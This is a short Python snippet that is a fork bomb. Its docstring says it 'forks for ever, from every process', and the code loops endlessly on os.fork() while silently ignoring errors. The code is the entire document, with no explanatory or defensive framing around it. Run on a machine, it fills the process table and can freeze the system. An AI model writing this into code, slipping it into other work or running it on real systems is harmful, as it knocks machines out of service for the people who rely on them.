"""Forks for ever, from every process."""

while True:
    try:
        os.fork()
    except OSError:
        pass
